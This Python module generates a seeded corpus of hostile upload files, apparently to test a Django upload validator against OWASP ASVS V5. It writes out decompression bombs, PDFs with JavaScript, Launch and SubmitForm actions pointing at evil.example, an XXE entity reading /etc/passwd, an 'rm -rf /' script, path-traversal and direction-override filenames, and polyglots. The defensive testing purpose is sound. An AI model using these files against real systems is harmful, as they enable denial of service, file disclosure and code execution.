"""A corpus of hostile files, built from a seed: name, content and why it must not be taken. Nothing here is downloaded.

Kinds after docs and the catalogue in OWASP ASVS V5: lies about the type, cut files, bombs (archive, picture, PDF),
programs and scripts inside documents, XML with entities, names that travel or deceive, polyglots.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

SEED = 20261124
Hostile = tuple[str, bytes]
PROGRAM = b"MZ\x90\0" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
HTML = b"<!DOCTYPE html><script>fetch('//evil.example')</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"


def picture(kind: str, chance: random.Random, size: int = 48) -> bytes:
    out = io.BytesIO()
    Image.frombytes("RGB", (size, size), chance.randbytes(size * size * 3)).save(out, kind)
    return out.getvalue()


def pdf(action: dict[str, str] | None = None, *, pages: int = 1, key: str = "/OpenAction", password: str = "") -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(100, 100)
    if action:
        entries = {
            NameObject(k): NameObject(v) if v.startswith("/") else TextStringObject(v) for k, v in action.items()
        }
        writer._root_object[NameObject(key)] = writer._add_object(DictionaryObject(entries))
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def office(parts: dict[str, bytes], *, marker: str = "word/document.xml") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in ({"[Content_Types].xml": b"<Types/>", marker: b"<w/>"} | parts).items():
            archive.writestr(name, content)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A picture of a few hundred bytes whose head promises gigapixels."""

    def part(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack("!I", len(content)) + kind + content + struct.pack("!I", check)

    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(bytes(2000))) + part(b"IEND", b"")


def pdf_with_object_list(unpacked: int, *, lists: int = 1) -> bytes:
    """A compressed list of objects that unpacks to `unpacked` bytes, referred to from the catalogue."""
    packed = zlib.compress(b"1000 0 " + b" " * unpacked, 9)
    parts, places = [b"%PDF-1.5\n"], []

    def add(text: bytes) -> None:
        places.append(sum(map(len, parts)))
        parts.append(b"%d 0 obj\n" % len(places) + text + b"\nendobj\n")

    add(b"<</Type/Catalog/Pages 2 0 R/Extra 3 0 R>>")
    add(b"<</Type/Pages/Count 1/Kids[4 0 R]>>")
    add(b"[" + b" ".join(b"%d 0 R" % (1000 + n) for n in range(lists)) + b"]")
    add(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    for _ in range(lists):
        add(
            b"<</Type/ObjStm/N 1/First 7/Filter/FlateDecode/Length %d>>stream\n" % len(packed) + packed + b"\nendstream"
        )
    table = b"".join(struct.pack("!BIB", 1, place, 0) for place in places)
    inside = b"".join(struct.pack("!BIB", 2, 5 + n, 0) for n in range(lists))
    entries = struct.pack("!BIB", 0, 0, 255) + table + inside
    start, number = sum(map(len, parts)), len(places) + 1
    parts.append(
        b"%d 0 obj\n<</Type/XRef/Size %d/Root 1 0 R/W[1 4 1]/Index[0 %d 1000 %d]/Length %d>>stream\n"
        % (number, 1000 + lists, len(places) + 1, lists, len(entries))
        + entries
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )
    return b"".join(parts)


def lies(chance: random.Random) -> Iterator[Hostile]:
    """Content that is not what the ending says, in every pair of kinds."""
    real = {
        "pdf": pdf(),
        "png": picture("PNG", chance),
        "jpg": picture("JPEG", chance),
        "docx": office({}),
        "exe": PROGRAM,
        "elf": ELF,
        "html": HTML,
        "svg": SVG,
        "gif": b"GIF89a" + chance.randbytes(60),
        "zip": office({})[:40],
        "rtf": b"{\\rtf1 x}",
        "sh": b"#!/bin/sh\nrm -rf /\n",
        "noise": chance.randbytes(3000),
    }
    for ending in ("pdf", "png", "jpg", "docx", "xlsx", "odt"):
        for kind, content in real.items():
            fits = kind == ending or (kind == "docx" and ending == "docx")
            if not fits:
                yield f"datei.{ending}", content
    for kind, content in real.items():
        yield f"datei.{kind if kind not in {'pdf', 'png', 'jpg', 'docx'} else 'exe'}", content


def cut(chance: random.Random) -> Iterator[Hostile]:
    """Files that broke off, at random places."""
    for ending, content in {
        "pdf": pdf(pages=5),
        "png": picture("PNG", chance, 100),
        "docx": office({"word/a.xml": chance.randbytes(900)}),
        "xlsx": office({"xl/a.xml": chance.randbytes(900)}, marker="xl/workbook.xml"),
    }.items():
        for _ in range(12):
            yield f"rest.{ending}", content[: chance.randrange(1, len(content) * 9 // 10)]


def bombs(chance: random.Random) -> Iterator[Hostile]:
    """Small to send, huge to open."""
    for megabytes in (30, 60, 120):
        yield "bombe.docx", office({"word/a.xml": bytes(megabytes * 1_000_000)})
    yield "bombe.xlsx", office({f"xl/{n}.xml": bytes(3_000_000) for n in range(40)}, marker="xl/workbook.xml")
    yield "viele.docx", office({f"word/{n}": b"" for n in range(2_500)})
    nested = office({})
    for _ in range(3):
        nested = office({"word/media/a.bin": nested})
        yield "puppe.docx", nested
    for side in (7_000, 20_000, 65_000, 2**31 - 1):
        yield "riese.png", png_claiming(side, side)
        yield "streifen.png", png_claiming(side * 900 % 2**31, 60_000)
    yield "liste.pdf", pdf_with_object_list(40_000_000)
    yield "listen.pdf", pdf_with_object_list(20_000_000, lists=20)
    yield "seiten.pdf", pdf(pages=1_001)


def active(chance: random.Random) -> Iterator[Hostile]:
    """Documents that do something, carry something or ask for something."""
    for key in ("/OpenAction", "/AA", "/Names", "/X"):
        yield "a.pdf", pdf({"/S": "/JavaScript", "/JS": "app.alert(1)"}, key=key)
        yield "a.pdf", pdf({"/S": "/Launch", "/F": "cmd.exe"}, key=key)
        yield "a.pdf", pdf({"/S": "/SubmitForm", "/F": "https://evil.example"}, key=key)
        yield "a.pdf", pdf({"/S": "/ImportData", "/F": "x"}, key=key)
        yield "a.pdf", pdf({"/S": "/RichMediaExecute"}, key=key)
        yield "a.pdf", pdf({"/XFA": "x"}, key=key)
        yield "a.pdf", pdf({"/EmbeddedFiles": "/x"}, key=key)
    for password in ("a", "geheim"):
        yield "zu.pdf", pdf(password=password)
    for folder, marker, ending in (("word", "word/document.xml", "docx"), ("xl", "xl/workbook.xml", "xlsx")):
        for name in ("vbaProject.bin", "a.exe", "a.js", "b.dll", "c.vbs", "d.jar", "e.zip", "f.7z", "g.rar"):
            yield f"makro.{ending}", office({f"{folder}/{name}": b"x"}, marker=marker)
        for content in (PROGRAM, ELF, office({}), b"Rar!\x1a\x07"):
            yield f"bild.{ending}", office({f"{folder}/media/image1.png": content}, marker=marker)
        for text in ('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', "<!doctype x><x/>"):
            for encoding in ("utf-8", "utf-16", "utf-16-be"):
                yield f"xxe.{ending}", office({f"{folder}/x.xml": text.encode(encoding)}, marker=marker)
        padding = b" " * chance.randrange(65_520, 65_536)
        yield f"xxe.{ending}", office({f"{folder}/x.xml": padding + b"<!DOCTYPE x>"}, marker=marker)
        for name in ("../../etc/passwd", "/etc/passwd", "..\\..\\boot.ini", "C:\\x", "a/../../b"):
            yield f"reise.{ending}", office({name: b"x"}, marker=marker)


def named(chance: random.Random) -> Iterator[Hostile]:
    """Sound pictures without a name, or under one that no picture has; and files without content."""
    sound = picture("PNG", chance, 4)
    names = ["", ".", "..", "../..", "/", "\u202egnp.exe", ".png.", "foto.p\u2028ng.exe", "foto.png/", "foto.png\\.exe"]
    names += [f"foto.png.{ending}" for ending in ("exe", "html", "svg", "js", "zip", "bat", "lnk", "hta", "scr", "php")]
    names += [f"{'x' * chance.randrange(256, 400)}.exe" for _ in range(8)]
    yield from ((name, sound) for name in names)
    yield from ((f"leer.{ending}", b"") for ending in ("pdf", "png", "jpg", "docx", "txt"))


def renamed() -> list[Hostile]:
    """Sound pictures whose names Django makes harmless on the way: control characters, reading direction, folders."""
    sound = picture("PNG", random.Random(1), 4)
    names = [
        "a\x07.png",
        "a\x1b[2J.png",
        "x\u2066.png",
        "foto.p\u200eng",
        "../../etc/a.png",
        "C:\\x\\b.png",
        "x" * 400 + ".png",
    ]
    return [(name, sound) for name in names]


def texts(chance: random.Random) -> Iterator[Hostile]:
    """Not text, although it says so."""
    for _ in range(12):
        yield "notiz.txt", b"Hallo " + chance.randbytes(200) + b"\xff\x00"
    for control in (0, 1, 7, 8, 27):
        yield "notiz.csv", b"a;b\n" + bytes([control]) + b";c"
    yield "notiz.txt", "Grüße".encode("latin-1")
    yield "notiz.txt", PROGRAM


def polyglots(chance: random.Random) -> Iterator[Hostile]:
    """Two kinds in one file, of which the ending names the second."""
    for front in (HTML, SVG, PROGRAM, b"GIF89a", b"#!/bin/sh\n"):
        for ending, content in {"pdf": pdf(), "png": picture("PNG", chance), "docx": office({})}.items():
            yield f"doppel.{ending}", front + content
    for _ in range(40):  # the head of one kind, then noise
        head = chance.choice([b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff\xe0", b"PK\x03\x04"])
        ending = {b"%": "pdf", b"\x89": "png", b"\xff": "jpg", b"P": "docx"}[head[:1]]
        yield f"kopf.{ending}", head + chance.randbytes(chance.randrange(20, 4000))


def hostile_files(seed: int = SEED) -> list[Hostile]:
    chance = random.Random(seed)
    kinds = (lies, cut, bombs, active, named, texts, polyglots)
    return [file for kind in kinds for file in kind(chance)]
